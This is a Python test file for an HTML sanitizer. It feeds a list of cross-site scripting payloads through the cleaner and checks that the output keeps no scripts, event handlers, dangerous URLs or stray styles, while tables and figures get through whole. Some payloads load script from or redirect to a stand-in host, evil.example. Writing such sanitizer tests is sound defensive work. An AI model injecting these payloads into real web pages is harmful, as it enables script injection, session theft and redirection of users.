"""HTML that could run, fetch or break out of its place does not get through; tables do.

The hostile examples are common practice among testers of web pages; no source.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.runs.clean_html import EMPTY, clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<object data=x></object><embed src=x>",
    "<td style='text-align:left;position:fixed'>x</td>",
    "<p onclick=alert(1) id=main class=x>x</p>",
    "</div></main></body><h1>mine</h1>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<img alt='\" onerror=\"alert(1)' src='data:image/png;base64,AAAA'>",
]


class Seen(HTMLParser):
    """Notes every element with its attributes, and checks that they nest."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def assert_harmless(text: str) -> None:
    for tag, attributes in Seen(text).elements:
        assert tag not in ("script", "style", "svg", "iframe", "meta", "base", "link", "form")
        assert tag not in ("object", "embed", "input", "button", "math", "noscript")
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("id", "srcset")
            if name == "style":
                assert value in ("text-align:left", "text-align: right;")
            if name in ("src", "href"):
                assert value is not None
                assert value.startswith(("data:image/", "https://", "http://", "mailto:", "#"))
        if tag == "img":
            assert (attributes["src"] or "").startswith("data:image/")
            assert attributes["alt"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_comes_out_harmless(text: str) -> None:
    cleaned = clean_html(text, alt="a figure")
    assert_harmless(cleaned)
    assert clean_html(cleaned, alt="a figure") == cleaned


@given(st.lists(st.sampled_from([*HOSTILE, "<table>", "<tr>", "<", ">", "'", '"', "x", "&lt;"])))
def test_any_mixture_of_it_comes_out_harmless(parts: list[str]) -> None:
    assert_harmless(clean_html("".join(parts), alt="a figure"))


def test_tables_and_figures_get_through_whole() -> None:
    kept = (
        '<table class="dataframe"><caption>Blocks &amp; bores</caption><thead><tr>'
        '<th scope="col">family</th></tr></thead><tbody><tr>'
        '<th scope="row" style="text-align:left">works</th>'
        '<td colspan="2">5.2 &lt; 6</td></tr></tbody></table>'
        '<figure><img alt="points" src="data:image/png;base64,iVBORw0KGgo="><figcaption>12 blocks'
        "</figcaption></figure>"
    )
    assert clean_html(kept, alt="unused") == kept


def test_a_picture_without_words_gets_some() -> None:
    for given_alt in ("", " alt=''", " alt='  '"):
        cleaned = clean_html(f"<img{given_alt} src='data:image/png;base64,AA=='>", alt="a “figure”")
        assert 'alt="a “figure”"' in cleaned


def test_what_is_left_open_is_closed() -> None:
    assert clean_html("<p><b>x", alt="") == "<p><b>x</b></p>"
    assert clean_html("<ul><li>a<li>b</ul>c", alt="") == "<ul><li>a<li>b</li></li></ul>c"
